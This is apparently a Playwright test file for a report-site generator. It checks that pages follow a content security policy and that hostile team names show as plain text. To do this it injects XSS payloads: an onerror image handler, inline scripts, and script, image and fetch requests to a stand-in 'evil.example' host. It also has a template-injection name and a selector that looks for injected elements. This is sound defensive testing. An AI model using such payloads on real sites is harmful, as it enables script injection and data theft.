"""What a page may do: read its own files, and nothing else. What people wrote stays text."""

import html
import json
from pathlib import Path

import polars as pl
import pytest
from playwright.sync_api import Browser

from meos_pipeline.reporting.district import write_district
from meos_pipeline.reporting.render import render_edition, write_assets
from meos_pipeline.reporting.results import results_by_team
from meos_pipeline.reporting.site import House
from meos_pipeline.reporting.words import Words, read_words
from meos_pipeline.storage.paths import shipped
from tests.browser.conftest import EVERYWHERE, PAGES, TEAM, Reader
from tests.reporting.fixture import publishable
from tests.reporting.test_render import PAYLOADS

WATCH = "window.broken = []; document.addEventListener('securitypolicyviolation', e => window.broken.push(e.violatedDirective + ' ' + e.sourceFile));"
BAD = "() => [...document.querySelectorAll('main script, main img, iframe, math, object, embed, main style, [onerror], [onload], [ontoggle]')].map(e => e.outerHTML)"


@pytest.mark.parametrize(("name", "mode"), EVERYWHERE)
def test_a_page_asks_for_files_of_the_edition_only_and_logs_no_error(reader: Reader, name: str, mode: str) -> None:
    visit = reader.look(PAGES[name], mode)
    if mode == "light" and visit.page.locator("button.go-live").count():
        visit = reader.live(PAGES[name])
    root = reader.root.as_uri()
    assert [a for a in visit.asked if not a.startswith((root, "data:"))] == []
    assert [s for s in visit.said if "style-src" not in s and "inline style" not in s] == []


def test_the_policy_stops_script_and_style_and_the_network(reader: Reader) -> None:
    """The policy is tried, not read: each of these would work on a page without one."""
    visit = reader.open(PAGES["team"])
    visit.page.evaluate("""() => {
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned=1"><p id=q style="color:red">x</p>');
      const s = document.createElement('script'); s.textContent = 'window.pwned=2'; document.body.append(s);
      const e = document.createElement('script'); e.src = 'https://evil.example/x.js'; document.body.append(e);
      const i = document.createElement('img'); i.src = 'https://evil.example/x.png'; document.body.append(i);
    }""")
    fetched = visit.page.evaluate("() => fetch('https://evil.example/').then(() => 'yes', () => 'no')")
    assert fetched == "no"
    assert visit.page.evaluate("() => window.pwned") is None
    assert visit.page.evaluate("() => getComputedStyle(document.getElementById('q')).color") != "rgb(255, 0, 0)"
    assert not any("evil" in a for a in visit.asked)


def test_on_a_phone_nothing_of_plotly_is_loaded_before_the_reader_asks(reader: Reader) -> None:
    visit = reader.open(PAGES["team"], "phone")
    assert sorted({a.rsplit("/", 1)[1] for a in visit.asked}) == ["index.html", "live.js", "report.css", "report.js"]
    visit.page.locator("details.card > summary").first.tap()
    visit.page.locator("button.go-live:visible").first.tap()
    visit.page.locator("figure.on .main-svg").first.wait_for()


def _hostile(root: Path, turn: int) -> None:
    """A district in which teams, breaks, the organisation and areas all bear hostile names."""
    made = publishable(teams=12)
    names = [PAYLOADS[(turn + i) % len(PAYLOADS)] for i in range(12)]
    edition = publishable(teams=12, title=PAYLOADS[(turn + 13) % len(PAYLOADS)])
    object.__setattr__(edition, "organisation", made.organisation.with_columns(team_name=pl.Series(names)))
    object.__setattr__(edition.site, "organisation", PAYLOADS[(turn + 14) % len(PAYLOADS)])
    object.__setattr__(edition.site, "contact", PAYLOADS[(turn + 15) % len(PAYLOADS)])
    render_edition(edition, root)


@pytest.mark.slow
@pytest.mark.parametrize("turn", [0, 12, 24])
def test_hostile_names_are_text_on_every_page_and_in_every_live_figure(
    browser: Browser, tmp_path: Path, turn: int
) -> None:
    """Three districts of twelve: each of the payloads is the name of a team at least once."""
    _hostile(tmp_path, turn)
    reader = Reader(browser, tmp_path)
    for path in (
        PAGES["way in"],
        PAGES["district"],
        *(f"{p.name}/index.html" for p in sorted(tmp_path.glob("team-*"))),
    ):
        visit = reader.open(path)
        visit.page.evaluate(f"() => {{ {WATCH} }}")
        if visit.page.locator("button.go-live").count():
            visit.go_live()
        assert visit.dialogs == []
        assert visit.page.evaluate(BAD) == []
        assert (
            visit.page.evaluate(
                "() => [...document.querySelectorAll('a')].filter(a => !/^(file:|mailto:)/.test(a.protocol)).length"
            )
            == 0
        )
        assert [a for a in visit.asked if not a.startswith((tmp_path.as_uri(), "data:"))] == []
        assert not any(line.startswith("script") for line in visit.page.evaluate("() => window.broken"))
        if path.endswith("/index.html") and path.startswith("team-"):
            shown = " ".join(visit.page.locator("h1").text_content().split())
            assert any(" ".join(name.split()) in shown for name in PAYLOADS), shown
    reader.close()


def test_an_axis_label_that_is_a_template_prints_no_data(browser: Browser, tmp_path: Path) -> None:
    """Plotly fills in '%{...}' in templates and makes '<a>' a link: neither may happen to a name."""
    name = "%{customdata} <a href='https://evil.example'>klik</a>"
    made = publishable(teams=12, name=name)
    words = Words(read_words(shipped("reports")), "nl")
    write_assets(tmp_path / "assets")
    write_district(made, results_by_team(made), words, House(), tmp_path / "district")
    reader = Reader(browser, tmp_path)
    visit = reader.open("district/cijfers.html")
    visit.go_live()
    drawn = visit.page.locator("#trends .live")
    assert name[:17] in " ".join(drawn.all_text_contents()), "a long name is cut, and still a name"
    assert drawn.locator("a").count() == 0
    reader.close()


def test_figures_hold_no_base64_and_no_template(reader: Reader) -> None:
    for path in (f"{TEAM}/use_nl.js", f"{TEAM}/use_en.js", f"{TEAM}/questions_nl.js", "district/figures_nl.js"):
        text = (reader.root / path).read_text(encoding="utf-8")
        figures = json.loads(html.unescape(text.removeprefix("window.meosFigures=").rstrip().rstrip(";")))
        assert figures
        assert not any(word in text for word in ("bdata", "dtype", "hovertemplate", "customdata", "http"))
